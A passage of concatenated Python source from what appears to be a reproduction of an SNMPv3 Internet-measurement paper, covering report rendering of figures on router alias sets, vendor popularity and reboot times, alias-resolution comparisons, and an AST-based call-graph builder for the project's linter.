    w(f"\nNon-conforming skewness: {f6.non_conforming_skewness:+.2f} (positive = sparse)\n")

    w(_h("Figure 7: last reboot time of top-3 engine IDs"))
    f7 = fe.figure7(ctx)
    for family, top in (("IPv4", f7.top_v4), ("IPv6", f7.top_v6)):
        for rank, (raw, ecdf) in enumerate(top, 1):
            w(
                f"\n{family} #{rank}: 0x{raw.hex()[:24]}... on {ecdf.count} IPs, "
                f"reboot spread {f7.reboot_span_years(ecdf):.1f} years"
            )
    w("\n")

    w(_h("Figure 8: |delta last reboot| between scans"))
    f8 = fe.figure8(ctx)
    for label, ecdf in (
        ("IPv4 all IPs", f8.all_v4), ("IPv4 router IPs", f8.routers_v4),
        ("IPv6 all IPs", f8.all_v6), ("IPv6 router IPs", f8.routers_v6),
    ):
        if ecdf.count:
            w(f"\n{label:<16} <=10s: {ecdf.at(10):.1%}   <=120s: {ecdf.at(120):.1%}")
    w("\n")

    w(_h("Section 5.1: alias sets"))
    s51 = fa.section51(ctx)
    for summary in (s51.v4, s51.v6):
        w(
            f"\n{summary.label}: {summary.sets} alias sets, "
            f"{summary.non_singletons} non-singleton holding "
            f"{summary.ips_in_non_singletons} IPs "
            f"({summary.grouped_fraction:.0%} of input, "
            f"{summary.mean_non_singleton_size:.1f} IPs/set)"
        )
    w(
        f"\njoint: {s51.v4_only_sets} IPv4-only, {s51.v6_only_sets} IPv6-only, "
        f"{s51.dual_sets} dual-stack sets ({s51.dual_mean_size:.1f} addrs/dual set)\n"
    )

    w(_h("Figure 9: IPs per alias set"))
    f9 = fa.figure9(ctx)
    w(f"\nIPv4 sets median {f9.ipv4_sets.median:.0f}, router sets median "
      f"{f9.router_sets.median:.0f} (routers larger: {f9.router_sets_are_larger})\n")

    if include_comparators:
        w(_h("Section 5.2: Router Names comparison"))
        s52 = fa.section52(ctx)
        w(f"\nRouter Names: {s52.router_names.count} sets "
          f"({s52.router_names.non_singleton_count} non-singleton)")
        w(f"\ndual-stack non-singleton: SNMPv3 {s52.snmpv3_dual_non_singleton} vs "
          f"Router Names {s52.router_names_dual_non_singleton}")
        w(f"\nexact matches: {s52.overlap.exact_matches}, partial overlaps: "
          f"{s52.overlap.partial_overlaps_a}, complementary: "
          f"{s52.overlap.complementary}\n")

        w(_h("Section 5.3: MIDAR / Speedtrap comparison"))
        s53 = fa.section53(ctx)
        w(f"\nMIDAR: {s53.midar.count} sets, {s53.midar.non_singleton_count} "
          f"non-singleton ({s53.midar.mean_non_singleton_size:.1f} IPs/set)")
        w(f"\nSpeedtrap: {s53.speedtrap.count} sets, "
          f"{s53.speedtrap.non_singleton_count} non-singleton")
        w(f"\nSNMPv3 IPv4 non-singleton: {ctx.alias_v4.non_singleton_count}\n")

        w(_h("Section 5.4: combined de-alias coverage"))
        s54 = fa.section54(ctx, s53.midar)
        c = s54.coverage
        w(f"\nrouter IPs responsive to SNMPv3: {s54.snmpv3_responsive_fraction:.1%}")
        w(f"\nde-aliased: MIDAR {c.midar_fraction:.1%}, SNMPv3 "
          f"{c.snmpv3_fraction:.1%}, combined {c.combined_fraction:.1%}\n")

    w(_h("Figure 10: SNMPv3 coverage per AS"))
    f10 = fv.figure10(ctx)
    w(f"\noverall coverage: {f10.coverage.overall:.1%}")
    for threshold, ecdf in f10.ecdfs().items():
        w(f"\nASes with {threshold}+ IPs (n={ecdf.count}): "
          f"<10% cov: {ecdf.at(0.0999):.0%}, >80% cov: {ecdf.fraction_above(0.8):.0%}")
    w("\n")

    w(_h("Figure 11: vendor popularity (all devices)"))
    f11 = fv.figure11(ctx)
    for vendor, count in f11.top(10):
        w(f"\n{vendor:<14} {count:>8}")
    w(f"\ntop-10 share: {f11.top_n_share(10):.0%}\n")

    w(_h("Figure 12: router vendor popularity"))
    f12 = fv.figure12(ctx)
    from repro.analysis.statistics import vendor_share_intervals

    intervals = vendor_share_intervals(f12.counts)
    for vendor, count in f12.top(10):
        est = intervals[vendor]
        w(f"\n{vendor:<14} {count:>8}   share {est.point:6.1%} "
          f"[{est.low:.1%}, {est.high:.1%}]")
    w("\n")

    w(_h("Figure 13: time since last reboot (routers)"))
    w("\n" + fv.figure13(ctx).headline() + "\n")

    w(_h("Figure 14: router vendors per AS"))
    f14 = fv.figure14(ctx)
    for threshold, ecdf in f14.ecdf_by_min_routers.items():
        w(f"\nASes with {threshold}+ routers (n={ecdf.count}): "
          f"single vendor {ecdf.at(1.0):.0%}, >5 vendors {ecdf.fraction_above(5):.0%}")
    w("\n")

    w(_h("Figure 15: regional vendor popularity"))
    f15 = fv.figure15(ctx)
    for region in sorted(f15.shares, key=lambda r: -f15.totals.get(r, 0)):
        shares = f15.shares[region]
        w(f"\n{region.value} ({f15.totals.get(region, 0)} routers): " + ", ".join(
            f"{v} {shares.get(v, 0.0):.0%}" for v in ("Cisco", "Huawei", "Net-SNMP", "Juniper", "Other")
        ))
    w("\n")

    w(_h("Figure 16: top-10 networks by router count"))
    for row in fv.figure16(ctx):
        w(f"\n{row.region.value}-AS{row.asn} ({row.router_count} routers): " + ", ".join(
            f"{v} {s:.0%}" for v, s in row.vendor_shares.items() if s > 0.005
        ))
    w("\n")

    w(_h("Figure 17: vendor dominance per AS"))
    f17 = fv.figure17(ctx)
    for threshold, ecdf in f17.ecdf_by_min_routers.items():
        w(f"\nASes with {threshold}+ routers (n={ecdf.count}): "
          f"dominance >=0.7 for {ecdf.fraction_at_least(0.7):.0%}")
    w("\n")

    w(_h("Figure 18: vendor dominance per region"))
    for region, ecdf in fv.figure18(ctx, min_routers=5).items():
        w(f"\n{region.value} (n={ecdf.count}): median dominance {ecdf.median:.2f}")
    w("\n")

    w(_h("Figure 19 (Appendix B): (last reboot, boots) tuple uniqueness"))
    f19 = fe.figure19(ctx)
    w(f"\nIPv4 IPs with tuple mapping to one engine ID: {f19.unique_fraction_v4:.1%}")
    w(f"\nIPv6 IPs with tuple mapping to one engine ID: {f19.unique_fraction_v6:.1%}\n")

    w(_h("Figure 20 (Appendix C): routers per AS per region"))
    for region, ecdf in fv.figure20(ctx).items():
        w(f"\n{region.value}: n={ecdf.count} ASes, median {ecdf.median:.0f}, "
          f"max {max(ecdf.values):.0f}")
    w("\n")

    if include_comparators:
        w(_h("Section 6.2.3: Nmap comparison"))
        s62 = fv.section62(ctx)
        w(f"\nsampled router IPs: {s62.sampled}")
        w(f"\nno result: {s62.no_result} ({s62.no_result_fraction:.0%}), matches: "
          f"{s62.matches} ({s62.agreeing_matches} agreeing), guesses: {s62.guesses}"
          f" ({s62.disagreeing_guesses} disagreeing)")
        w(f"\nprobe cost: Nmap {s62.nmap_probes_total} packets vs SNMPv3 "
          f"{s62.snmpv3_probes_total}\n")

    w(_h("Section 8: response amplification"))
    s8 = fv.section8(ctx)
    w(f"\nmulti-response IPs: {s8.multi_response_ips} of {s8.responsive_ips} "
      f"({s8.multi_response_fraction:.2%}), max replies from one IP: "
      f"{s8.max_responses_single_ip}\n")

    w(_h("Section 6.2.1: lab validation"))
    for router in default_lab():
        result = run_lab_experiment(router)
        w(f"\n{result.router}: silent-before-config="
          f"{not result.answers_before_config}, v2c-after-config="
          f"{result.v2c_works_after_config}, v3-implicitly-enabled="
          f"{result.v3_discovery_after_config}, engine-ID-is-MAC="
          f"{result.engine_id_is_mac} ({result.engine_mac_vendor}), "
          f"same-on-all-interfaces={result.same_engine_id_on_all_interfaces}, "
          f"first-interface={result.engine_mac_is_first_interface}, "
          f"smallest-mac={result.engine_mac_is_smallest}")
    w("\n")

    if include_extensions:
        w(_render_extensions(ctx))
    return out.getvalue()


def _render_extensions(ctx: ExperimentContext) -> str:
    """The beyond-the-paper sections (§8 quantified, §9 future work)."""
    from repro.analysis.amplification import analyze_amplification
    from repro.experiments.extensions import (
        longitudinal_experiment,
        middlebox_experiment,
    )

    out = io.StringIO()
    w = out.write

    w(_h("Extension: amplification vectors (§8 quantified)"))
    scan1, __ = ctx.campaign.scan_pair(4)
    w("\n" + analyze_amplification(scan1).headline() + "\n")

    w(_h("Extension: NAT and load-balancer inference (§9 future work)"))
    mb = middlebox_experiment(ctx)
    w(f"\nNAT gateways mined: {mb.nats_found} "
      f"(precision {mb.report.nat_precision:.2f}, recall {mb.report.nat_recall:.2f})")
    w(f"\nload balancers found: {mb.lbs_found} of {mb.lb_candidates_probed} "
      f"bursted (precision {mb.report.lb_precision:.2f}, "
      f"recall {mb.report.lb_recall:.2f})\n")

    w(_h("Extension: longitudinal monitoring (§6.3)"))
    longitudinal = longitudinal_experiment(ctx, offsets_days=(30.0, 180.0))
    for snapshot in longitudinal.snapshots:
        w(f"\n{snapshot.label}: {snapshot.responsive} responsive, engine-ID "
          f"persistence {snapshot.persistence_fraction:.1%}, median uptime "
          f"{snapshot.median_uptime_days:.0f} days")
    w("\n")
    return out.getvalue()
