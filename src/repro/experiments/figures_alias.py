"""Alias-resolution figures and comparisons: Figure 9, §5.1–§5.4.

Covers the alias-set size distribution, the per-protocol breakdown of
§5.1, the Router Names comparison (§5.2), the MIDAR/Speedtrap comparison
(§5.3) and the combined-coverage computation (§5.4).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.alias.compare import OverlapReport, compare_alias_sets
from repro.alias.dns_names import RouterNamesResolver
from repro.alias.midar import MidarResolver
from repro.alias.sets import AliasSets
from repro.alias.speedtrap import SpeedtrapResolver
from repro.analysis.coverage import CombinedCoverage, combined_coverage
from repro.analysis.ecdf import Ecdf
from repro.experiments.context import ExperimentContext


# -- §5.1 summary ---------------------------------------------------------------


@dataclass(frozen=True)
class AliasSummary:
    """The §5.1 headline numbers for one alias-set collection."""

    label: str
    sets: int
    non_singletons: int
    ips_in_non_singletons: int
    mean_non_singleton_size: float
    input_ips: int

    @property
    def grouped_fraction(self) -> float:
        """Fraction of input IPs that landed in non-singleton sets."""
        if self.input_ips == 0:
            return 0.0
        return self.ips_in_non_singletons / self.input_ips


def alias_summary(sets: AliasSets, label: str, input_ips: int) -> AliasSummary:
    return AliasSummary(
        label=label,
        sets=sets.count,
        non_singletons=sets.non_singleton_count,
        ips_in_non_singletons=sets.addresses_in_non_singletons,
        mean_non_singleton_size=sets.mean_non_singleton_size,
        input_ips=input_ips,
    )


@dataclass(frozen=True)
class Section51:
    """Per-family and dual-stack alias results."""

    v4: AliasSummary
    v6: AliasSummary
    v4_only_sets: int
    v6_only_sets: int
    dual_sets: int
    dual_non_singleton: int
    dual_mean_size: float


def section51(ctx: ExperimentContext) -> Section51:
    split = ctx.alias_dual.split_by_protocol()
    dual_groups = split["dual"]
    dual_sizes = [len(g) for g in dual_groups]
    return Section51(
        v4=alias_summary(ctx.alias_v4, "IPv4", len(ctx.valid_v4)),
        v6=alias_summary(ctx.alias_v6, "IPv6", len(ctx.valid_v6)),
        v4_only_sets=len(split["v4"]),
        v6_only_sets=len(split["v6"]),
        dual_sets=len(dual_groups),
        dual_non_singleton=sum(1 for g in dual_groups if len(g) > 1),
        dual_mean_size=(sum(dual_sizes) / len(dual_sizes)) if dual_sizes else 0.0,
    )


# -- Figure 9: IPs per alias set ---------------------------------------------------


@dataclass(frozen=True)
class Figure9:
    """Alias-set size ECDFs: IPv4, IPv6 and router-only sets."""

    ipv4_sets: Ecdf
    ipv6_sets: Ecdf
    router_sets: Ecdf

    @property
    def router_sets_are_larger(self) -> bool:
        """Paper: router alias sets contain many more addresses."""
        return self.router_sets.median >= self.ipv4_sets.median


def figure9(ctx: ExperimentContext) -> Figure9:
    return Figure9(
        ipv4_sets=Ecdf.from_values(ctx.alias_v4.sizes()),
        ipv6_sets=Ecdf.from_values(ctx.alias_v6.sizes()),
        router_sets=Ecdf.from_values(ctx.router_sets.sizes()),
    )


# -- §5.2: Router Names comparison ---------------------------------------------------


@dataclass(frozen=True)
class Section52:
    """SNMPv3 vs Router Names."""

    router_names: AliasSets
    snmpv3_dual_non_singleton: int
    router_names_dual_non_singleton: int
    overlap: OverlapReport


def section52(ctx: ExperimentContext) -> Section52:
    resolver = RouterNamesResolver(ctx.rdns_zone)
    router_names = resolver.resolve(ctx.topology)
    rn_split = router_names.split_by_protocol()
    sn_split = ctx.alias_dual.split_by_protocol()
    return Section52(
        router_names=router_names,
        snmpv3_dual_non_singleton=sum(1 for g in sn_split["dual"] if len(g) > 1),
        router_names_dual_non_singleton=sum(1 for g in rn_split["dual"] if len(g) > 1),
        overlap=compare_alias_sets(ctx.alias_dual, router_names),
    )


# -- §5.3: MIDAR / Speedtrap comparison ------------------------------------------------


@dataclass(frozen=True)
class Section53:
    """SNMPv3 vs the IP-ID techniques."""

    midar: AliasSets
    speedtrap: AliasSets
    midar_overlap: OverlapReport
    speedtrap_overlap: OverlapReport


def section53(ctx: ExperimentContext) -> Section53:
    midar_candidates = sorted(ctx.datasets.union_v4, key=int)
    speedtrap_candidates = sorted(ctx.datasets.itdk_v6 | ctx.datasets.ripe_v6, key=int)
    midar_sets = MidarResolver(topology=ctx.topology).resolve(midar_candidates)
    speedtrap_sets = SpeedtrapResolver(topology=ctx.topology).resolve(speedtrap_candidates)
    return Section53(
        midar=midar_sets,
        speedtrap=speedtrap_sets,
        midar_overlap=compare_alias_sets(ctx.alias_v4, midar_sets),
        speedtrap_overlap=compare_alias_sets(ctx.alias_v6, speedtrap_sets),
    )


# -- §5.4: combined coverage --------------------------------------------------------------


@dataclass(frozen=True)
class Section54:
    """Union router-IP de-alias coverage: MIDAR, SNMPv3, combined."""

    coverage: CombinedCoverage
    snmpv3_responsive_fraction: float  # paper: 16% of union router IPs


def section54(ctx: ExperimentContext, midar_sets: "AliasSets | None" = None) -> Section54:
    if midar_sets is None:
        midar_sets = MidarResolver(topology=ctx.topology).resolve(
            sorted(ctx.datasets.union_v4, key=int)
        )
    coverage = combined_coverage(
        ctx.datasets.union_v4, midar_sets, ctx.alias_v4
    )
    responsive_fraction = (
        len(ctx.responsive_router_ips_v4) / len(ctx.datasets.union_v4)
        if ctx.datasets.union_v4
        else 0.0
    )
    return Section54(coverage=coverage, snmpv3_responsive_fraction=responsive_fraction)
