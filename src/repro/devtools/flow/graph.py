"""Project-wide module/import graph and name-resolved call graph.

The linter of :mod:`repro.devtools.lint` sees one file at a time; the
flow analyzer's rules are *interprocedural* — an unseeded RNG three
calls away from the scanner, a file handle acquired by a helper and
leaked by its caller — so they need a picture of the whole program.
:class:`ProjectGraph` provides it, built purely from the AST:

* every module under the analysis roots is parsed once and indexed:
  top-level functions, classes with their methods, import aliases
  (absolute *and* relative), and module-level mutable containers;
* module bodies become pseudo-functions (``pkg.mod.<module>``) so
  import-time calls participate in the call graph like any other code;
* a **name-resolved call graph**: each call site is resolved through
  local bindings, ``self``/``cls`` method dispatch, import aliases and
  re-export chains (``repro.io.ScanJsonlWriter`` resolves to the class
  defined in ``repro.io.exports``) down to the defining symbol.  Calls
  whose receiver cannot be resolved fall back to a *dynamic-attr* match
  on the method name when the project defines few enough candidates —
  marked ``dynamic`` so rules can weigh them appropriately.

The graph is deterministic (sorted file discovery, insertion-ordered
indexes) and makes no attempt to import or execute anything.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator, Mapping, Sequence

from repro.devtools.lint.engine import iter_python_files, module_name_for
from repro.devtools.lint.rules import dotted_name, module_level_mutables

#: Pseudo-function name for a module's top-level statements.
MODULE_BODY = "<module>"

#: Cap on dynamic-attr fallback candidates: an attribute call that could
#: dispatch to more methods than this is treated as unresolvable rather
#: than fanning the call graph out to everything with that name.
DYNAMIC_CANDIDATE_CAP = 4


@dataclass(frozen=True)
class SourceModule:
    """One in-memory module for graph construction (tests, fixtures)."""

    name: str
    source: str
    path: str = "<memory>"


@dataclass
class FunctionInfo:
    """One function, method, or module-body pseudo-function."""

    qualname: str
    module: str
    name: str
    node: "ast.FunctionDef | ast.AsyncFunctionDef | ast.Module"
    class_name: "str | None" = None
    #: Named parameters in declaration order (``self``/``cls`` included).
    params: "tuple[str, ...]" = ()
    #: Parameter name -> default-value expression, for trailing defaults.
    defaults: "dict[str, ast.expr]" = field(default_factory=dict)

    @property
    def is_method(self) -> bool:
        return self.class_name is not None

    @property
    def body(self) -> "Sequence[ast.stmt]":
        return self.node.body

    def line(self) -> int:
        return getattr(self.node, "lineno", 1)


@dataclass
class ClassInfo:
    """One class definition with its directly defined methods."""

    qualname: str
    module: str
    name: str
    node: ast.ClassDef
    methods: "dict[str, FunctionInfo]" = field(default_factory=dict)
    #: Dotted base-class names as written (resolved lazily by the graph).
    bases: "tuple[str, ...]" = ()


@dataclass
class ModuleInfo:
    """Everything the graph knows about one parsed module."""

    name: str
    path: str
    tree: ast.Module
    is_package: bool
    #: Local binding -> fully qualified imported name (relative imports
    #: resolved against the module's own dotted name).
    aliases: "dict[str, str]" = field(default_factory=dict)
    functions: "dict[str, FunctionInfo]" = field(default_factory=dict)
    classes: "dict[str, ClassInfo]" = field(default_factory=dict)
    #: Module-scope names assigned a mutable container literal/call.
    mutable_globals: "dict[str, int]" = field(default_factory=dict)
    body: "FunctionInfo | None" = None


@dataclass(frozen=True)
class CallSite:
    """One resolved call: ``caller`` invokes ``callee`` at ``node``."""

    caller: str
    callee: str
    node: ast.Call
    #: True when the callee was matched by dynamic-attr fallback rather
    #: than name resolution; rules treat these edges conservatively.
    dynamic: bool = False


def _build_aliases(module: str, is_package: bool, tree: ast.Module) -> "dict[str, str]":
    """Local binding -> fully qualified name, with relative imports resolved."""
    table: "dict[str, str]" = {}
    parts = module.split(".")
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.asname:
                    table[alias.asname] = alias.name
                else:
                    head = alias.name.split(".", 1)[0]
                    table[head] = head
        elif isinstance(node, ast.ImportFrom):
            if node.level == 0:
                base = node.module or ""
            else:
                keep = len(parts) - node.level + (1 if is_package else 0)
                prefix = parts[: max(keep, 0)]
                base = ".".join(prefix + ([node.module] if node.module else []))
            for alias in node.names:
                if alias.name == "*" or not base:
                    continue
                table[alias.asname or alias.name] = f"{base}.{alias.name}"
    return table


def _function_info(
    fn: "ast.FunctionDef | ast.AsyncFunctionDef",
    *,
    module: str,
    class_name: "str | None",
) -> FunctionInfo:
    named = fn.args.posonlyargs + fn.args.args
    params = tuple(a.arg for a in named) + tuple(a.arg for a in fn.args.kwonlyargs)
    defaults: "dict[str, ast.expr]" = {}
    trailing = fn.args.defaults
    if trailing:
        for arg, default in zip(named[-len(trailing):], trailing):
            defaults[arg.arg] = default
    for arg, kw_default in zip(fn.args.kwonlyargs, fn.args.kw_defaults):
        if kw_default is not None:
            defaults[arg.arg] = kw_default
    prefix = f"{module}.{class_name}." if class_name else f"{module}."
    return FunctionInfo(
        qualname=prefix + fn.name,
        module=module,
        name=fn.name,
        node=fn,
        class_name=class_name,
        params=params,
        defaults=defaults,
    )


def _local_names(fn: FunctionInfo) -> "set[str]":
    """Names bound inside a function: parameters plus simple stores."""
    bound = set(fn.params)
    for node in ast.walk(fn.node):  # type: ignore[arg-type]
        if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
            bound.add(node.id)
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            bound.add(node.name)
    return bound


class ProjectGraph:
    """The whole-program view: modules, symbols, and the call graph."""

    def __init__(self) -> None:
        self.modules: "dict[str, ModuleInfo]" = {}
        #: Every function/method/module-body by qualified name.
        self.functions: "dict[str, FunctionInfo]" = {}
        self.classes: "dict[str, ClassInfo]" = {}
        self.call_sites: "list[CallSite]" = []
        self._callees: "dict[str, list[CallSite]]" = {}
        self._callers: "dict[str, list[CallSite]]" = {}
        #: Bare method name -> methods defined with that name, for the
        #: dynamic-attr fallback.
        self._method_index: "dict[str, list[FunctionInfo]]" = {}
        #: Files that failed to parse: display path -> (line, message).
        self.syntax_errors: "dict[str, tuple[int, str]]" = {}

    # -- construction ------------------------------------------------------

    @classmethod
    def build(cls, paths: "Sequence[Path]") -> "ProjectGraph":
        """Parse every module under ``paths`` and wire the call graph."""
        sources: "list[SourceModule]" = []
        graph = cls()
        for file_path in iter_python_files(paths):
            try:
                text = file_path.read_text(encoding="utf-8")
            except (OSError, UnicodeDecodeError) as exc:
                graph.syntax_errors[str(file_path)] = (1, f"cannot read file: {exc}")
                continue
            module, _root = module_name_for(file_path)
            sources.append(SourceModule(name=module, source=text, path=str(file_path)))
        graph._ingest(sources)
        return graph

    @classmethod
    def build_from_sources(
        cls, sources: "Sequence[SourceModule] | Mapping[str, str]"
    ) -> "ProjectGraph":
        """Build a graph from in-memory modules (the test entry point)."""
        if isinstance(sources, Mapping):
            sources = [
                SourceModule(name=name, source=text, path=f"<{name}>")
                for name, text in sources.items()
            ]
        graph = cls()
        graph._ingest(list(sources))
        return graph

    def _ingest(self, sources: "list[SourceModule]") -> None:
        for src in sources:
            self._index_module(src)
        for module in self.modules.values():
            self._extract_calls(module)

    def _index_module(self, src: SourceModule) -> None:
        try:
            tree = ast.parse(src.source)
        except SyntaxError as exc:
            self.syntax_errors[src.path] = (
                exc.lineno or 1,
                f"file does not parse: {exc.msg}",
            )
            return
        is_package = src.path.endswith("__init__.py")
        info = ModuleInfo(
            name=src.name,
            path=src.path,
            tree=tree,
            is_package=is_package,
            aliases=_build_aliases(src.name, is_package, tree),
            mutable_globals=module_level_mutables(tree),
        )
        body_statements: "list[ast.stmt]" = []
        for stmt in tree.body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
                fn = _function_info(stmt, module=src.name, class_name=None)
                info.functions[fn.name] = fn
                self.functions[fn.qualname] = fn
            elif isinstance(stmt, ast.ClassDef):
                cls_info = ClassInfo(
                    qualname=f"{src.name}.{stmt.name}",
                    module=src.name,
                    name=stmt.name,
                    node=stmt,
                    bases=tuple(
                        base for base in map(dotted_name, stmt.bases) if base
                    ),
                )
                for item in stmt.body:
                    if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                        method = _function_info(
                            item, module=src.name, class_name=stmt.name
                        )
                        cls_info.methods[method.name] = method
                        self.functions[method.qualname] = method
                        self._method_index.setdefault(method.name, []).append(method)
                info.classes[stmt.name] = cls_info
                self.classes[cls_info.qualname] = cls_info
            else:
                body_statements.append(stmt)
        body = FunctionInfo(
            qualname=f"{src.name}.{MODULE_BODY}",
            module=src.name,
            name=MODULE_BODY,
            node=ast.Module(body=body_statements, type_ignores=[]),
        )
        info.body = body
        self.functions[body.qualname] = body
        self.modules[src.name] = info

    # -- resolution --------------------------------------------------------

    def canonical(self, target: str) -> str:
        """Follow re-export chains down to the defining symbol.

        ``repro.io.ScanJsonlWriter`` -> ``repro.io.exports.ScanJsonlWriter``
        when the package ``__init__`` re-exports it.  Cycles are broken by
        a visited set; unknown names come back unchanged.
        """
        seen: "set[str]" = set()
        while (
            target not in self.functions
            and target not in self.classes
            and target not in seen
        ):
            seen.add(target)
            module, _, name = target.rpartition(".")
            info = self.modules.get(module)
            if info is None or not name:
                break
            forwarded = info.aliases.get(name)
            if forwarded is None or forwarded == target:
                break
            target = forwarded
        return target

    def resolve_class(self, name: str) -> "ClassInfo | None":
        return self.classes.get(self.canonical(name))

    def init_of(self, class_qualname: str) -> "FunctionInfo | None":
        """The ``__init__`` a constructor call runs, searching one base hop."""
        cls_info = self.classes.get(class_qualname)
        if cls_info is None:
            return None
        init = cls_info.methods.get("__init__")
        if init is not None:
            return init
        module = self.modules.get(cls_info.module)
        for base in cls_info.bases:
            resolved = base
            if module is not None:
                head, _, rest = base.partition(".")
                resolved_head = module.aliases.get(head, head)
                if resolved_head != head:
                    resolved = f"{resolved_head}.{rest}" if rest else resolved_head
                elif head in module.classes:
                    resolved = f"{module.name}.{base}"
            base_cls = self.classes.get(self.canonical(resolved))
            if base_cls is not None and "__init__" in base_cls.methods:
                return base_cls.methods["__init__"]
        return None

    def _resolve_method(
        self, module: ModuleInfo, class_name: str, attr: str
    ) -> "str | None":
        cls_info = module.classes.get(class_name)
        hops = 0
        while cls_info is not None and hops < 8:
            if attr in cls_info.methods:
                return cls_info.methods[attr].qualname
            if not cls_info.bases:
                return None
            head, _, rest = cls_info.bases[0].partition(".")
            resolved_head = module.aliases.get(head, head)
            base = f"{resolved_head}.{rest}" if rest else resolved_head
            if rest == "" and head in module.classes:
                base = f"{module.name}.{head}"
            next_cls = self.classes.get(self.canonical(base))
            if next_cls is None:
                return None
            module = self.modules.get(next_cls.module, module)
            cls_info = next_cls
            hops += 1
        return None

    def resolve_call_target(
        self, fn: FunctionInfo, call: ast.Call
    ) -> "tuple[str, bool] | None":
        """``(qualname-or-external-name, via_dynamic_fallback)`` for a call.

        Returns ``None`` when the target is genuinely unresolvable (a
        call on a call result, an over-ambiguous attribute).  External
        names (``open``, ``random.Random``) come back as written, alias-
        expanded, so rules can match them against registries.
        """
        name = dotted_name(call.func)
        if name is None:
            return None
        module = self.modules[fn.module]
        parts = name.split(".")
        head = parts[0]
        if head in ("self", "cls") and fn.class_name is not None and len(parts) >= 2:
            resolved = self._resolve_method(module, fn.class_name, parts[1])
            if resolved is not None:
                return resolved, False
            return self._dynamic_fallback(parts[-1])
        locals_ = self._locals_of(fn)
        if head in locals_:
            if len(parts) == 1:
                return None
            return self._dynamic_fallback(parts[-1])
        if len(parts) == 1:
            if head in module.functions:
                return module.functions[head].qualname, False
            if head in module.classes:
                return module.classes[head].qualname, False
            if head in module.aliases:
                return self.canonical(module.aliases[head]), False
            return head, False  # builtin or truly external bare name
        if head in module.aliases:
            expanded = module.aliases[head] + "." + ".".join(parts[1:])
            return self.canonical(expanded), False
        if head in module.classes and len(parts) == 2:
            resolved = self._resolve_method(module, head, parts[1])
            if resolved is not None:
                return resolved, False
        if head in module.functions:
            return None  # attribute on a function object: dynamic
        return self._dynamic_fallback(parts[-1])

    def _dynamic_fallback(self, attr: str) -> "tuple[str, bool] | None":
        candidates = self._method_index.get(attr, [])
        if 0 < len(candidates) <= DYNAMIC_CANDIDATE_CAP:
            # The edge extractor fans this out to every candidate.
            return f"<dynamic:{attr}>", True
        return None

    def _locals_of(self, fn: FunctionInfo) -> "set[str]":
        cache = getattr(fn, "_locals_cache", None)
        if cache is None:
            cache = _local_names(fn) if fn.name != MODULE_BODY else set()
            object.__setattr__(fn, "_locals_cache", cache)
        return cache

    # -- call-graph wiring -------------------------------------------------

    def _extract_calls(self, module: ModuleInfo) -> None:
        owners: "list[FunctionInfo]" = []
        if module.body is not None:
            owners.append(module.body)
        owners.extend(module.functions.values())
        for cls_info in module.classes.values():
            owners.extend(cls_info.methods.values())
        for fn in owners:
            for call in self._calls_in(fn):
                resolved = self.resolve_call_target(fn, call)
                if resolved is None:
                    continue
                target, dynamic = resolved
                if dynamic:
                    attr = target[len("<dynamic:"):-1]
                    for candidate in self._method_index.get(attr, []):
                        self._add_site(
                            CallSite(
                                caller=fn.qualname,
                                callee=candidate.qualname,
                                node=call,
                                dynamic=True,
                            )
                        )
                else:
                    self._add_site(
                        CallSite(caller=fn.qualname, callee=target, node=call)
                    )

    @staticmethod
    def _calls_in(fn: FunctionInfo) -> "Iterator[ast.Call]":
        for node in ast.walk(fn.node):  # type: ignore[arg-type]
            if isinstance(node, ast.Call):
                yield node

    def _add_site(self, site: CallSite) -> None:
        self.call_sites.append(site)
        self._callees.setdefault(site.caller, []).append(site)
        self._callers.setdefault(site.callee, []).append(site)

    # -- queries -----------------------------------------------------------

    def callees_of(self, qualname: str) -> "list[CallSite]":
        return self._callees.get(qualname, [])

    def callers_of(self, qualname: str) -> "list[CallSite]":
        """Call sites targeting ``qualname``; constructors included.

        For an ``__init__`` method this also returns the construction
        sites of its class (``C(...)`` resolves to the class symbol).
        """
        sites = list(self._callers.get(qualname, []))
        if qualname.endswith(".__init__"):
            fn = self.functions.get(qualname)
            if fn is not None and fn.class_name is not None:
                class_qual = f"{fn.module}.{fn.class_name}"
                sites.extend(self._callers.get(class_qual, []))
        return sites

    def function_of_class_site(self, site: CallSite) -> "FunctionInfo | None":
        """The ``__init__`` actually entered by a constructor call site."""
        if site.callee in self.classes:
            return self.init_of(site.callee)
        return self.functions.get(site.callee)

    def bind_arguments(
        self, callee: FunctionInfo, call: ast.Call
    ) -> "dict[str, ast.expr]":
        """Map a call's arguments onto the callee's parameter names.

        Methods and constructors skip their leading ``self``/``cls``;
        ``*args``/``**kwargs`` forwarding is left unbound (rules treat
        unbound parameters leniently).
        """
        params = list(callee.params)
        if callee.is_method and params and params[0] in ("self", "cls"):
            params = params[1:]
        bound: "dict[str, ast.expr]" = {}
        for param, arg in zip(params, call.args):
            bound[param] = arg
        for keyword in call.keywords:
            if keyword.arg is not None:
                bound[keyword.arg] = keyword.value
        return bound

    def module_of(self, qualname: str) -> "str | None":
        fn = self.functions.get(qualname)
        if fn is not None:
            return fn.module
        cls_info = self.classes.get(qualname)
        if cls_info is not None:
            return cls_info.module
        return None


__all__ = [
    "DYNAMIC_CANDIDATE_CAP",
    "MODULE_BODY",
    "CallSite",
    "ClassInfo",
    "FunctionInfo",
    "ModuleInfo",
    "ProjectGraph",
    "SourceModule",
]
