"""Whole-program dataflow analysis for the reproduction's invariants.

``repro.devtools.flow`` complements the per-file invariant linter
(:mod:`repro.devtools.lint`) with interprocedural checks over a
project-wide call graph: seed-provenance taint (SEED001), fork/IPC
capture safety (FORK001), and resource lifecycle (RES001).  Run it as
``python -m repro.devtools.flow``; findings ratchet through a
shrink-only baseline configured in ``[tool.repro.flow]``.
"""

from repro.devtools.flow.baseline import (
    BaselineDelta,
    compare,
    load_baseline,
    locate_baseline,
    write_baseline,
)
from repro.devtools.flow.graph import ProjectGraph, SourceModule
from repro.devtools.flow.rules import FLOW_RULES, FlowFinding, run_rules

__all__ = [
    "FLOW_RULES",
    "BaselineDelta",
    "FlowFinding",
    "ProjectGraph",
    "SourceModule",
    "compare",
    "load_baseline",
